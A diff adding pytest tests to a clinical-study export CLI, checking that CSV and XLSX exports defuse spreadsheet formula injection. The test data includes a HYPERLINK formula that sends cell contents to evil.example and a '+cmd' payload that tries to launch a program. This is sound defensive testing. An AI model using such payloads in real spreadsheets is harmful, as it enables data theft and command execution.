@@ -3,10 +3,13 @@
 from __future__ import annotations
 
 import asyncio
+import csv
+import io
 from pathlib import Path
 
 import pandas as pd
 import pytest
+from openpyxl import load_workbook
 from sqlalchemy.ext.asyncio import AsyncEngine
 from typer.testing import CliRunner
 
@@ -76,3 +79,67 @@ async def test_it_writes_csv_with_a_bom_and_limits_an_export_to_a_site(
     assert set(patients["site"]) == {"BER"}
     result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "x", "--format", "sas"])
     assert (result.exit_code, result.stderr) == (1, "error: --format: use one of csv, xlsx, parquet, stata\n")
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+async def _record_hostile_texts(tmp_path: Path) -> None:
+    """A clinic infection whose organism is a formula and a withdrawal whose reason starts with '+'."""
+    runner = CliRunner()
+    for args in (
+        [
+            *("infections", "record", "--study-id", "PKU-002", "--onset", "2026-03-01", "--site-type", "pneumonia"),
+            *("--pathogen", "bacterial", "--grade", "2", "--treatment", "iv_antimicrobial", "--organism", FORMULA),
+        ],
+        ["patients", "withdraw", "PKU-003", "--reason", "+cmd|' /C calc'!A0"],
+        ["patients", "withdraw", "PKU-004", "--reason", "\t@SUM(1+1)"],
+    ):
+        result = await asyncio.to_thread(runner.invoke, cli, args)
+        assert result.exit_code == 0, result.stderr
+
+
+async def test_it_writes_no_live_formula_into_an_xlsx_export(
+    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
+) -> None:
+    await seed_study(engine, protocol, clock)
+    await _record_hostile_texts(tmp_path)
+    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "out", "--format", "xlsx"])
+    assert result.exit_code == 0, result.stderr
+    workbook = load_workbook(tmp_path / "out" / "study.xlsx")
+    cells = [cell for sheet in workbook.worksheets for row in sheet.iter_rows() for cell in row]
+    assert [cell.coordinate for cell in cells if cell.data_type == "f"] == []
+    texts = {cell.value for cell in cells if isinstance(cell.value, str)}
+    assert "'" + FORMULA in texts
+    assert "'+cmd|' /C calc'!A0" in texts
+
+
+async def test_it_writes_csv_cells_that_no_spreadsheet_runs_as_formulas(
+    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
+) -> None:
+    await seed_study(engine, protocol, clock)
+    await _record_hostile_texts(tmp_path)
+    result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", "out"])
+    assert result.exit_code == 0, result.stderr
+    for path in (tmp_path / "out").glob("*.csv"):
+        for cells in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"))):
+            assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")], path.name
+    infections = pd.read_csv(tmp_path / "out" / "infections.csv", encoding="utf-8-sig")
+    assert "'" + FORMULA in infections["organism"].tolist()
+    patients = pd.read_csv(tmp_path / "out" / "patients.csv", encoding="utf-8-sig", keep_default_na=False)
+    assert "'@SUM(1+1)" in patients["end_reason"].tolist()
+
+
+async def test_it_keeps_a_text_as_typed_in_parquet_and_stata_and_says_so_in_the_codebook(
+    engine: AsyncEngine, protocol: StudyProtocol, clock: FakeClock, cli_env: str, tmp_path: Path
+) -> None:
+    await seed_study(engine, protocol, clock)
+    await _record_hostile_texts(tmp_path)
+    for fmt in ("parquet", "stata"):
+        result = await asyncio.to_thread(CliRunner().invoke, cli, ["export", "--out", fmt, "--format", fmt])
+        assert result.exit_code == 0, result.stderr
+        assert FORMULA in read(tmp_path / fmt, fmt)["infections"]["organism"].tolist()
+    codebook = read(tmp_path / "parquet", "parquet")["codebook"]
+    organism = codebook[(codebook["dataset"] == "infections") & (codebook["variable"] == "organism")].iloc[0]
+    assert "prefixed with '" in organism["note"]
+    assert "Parquet and Stata keep the text as typed" in organism["note"]
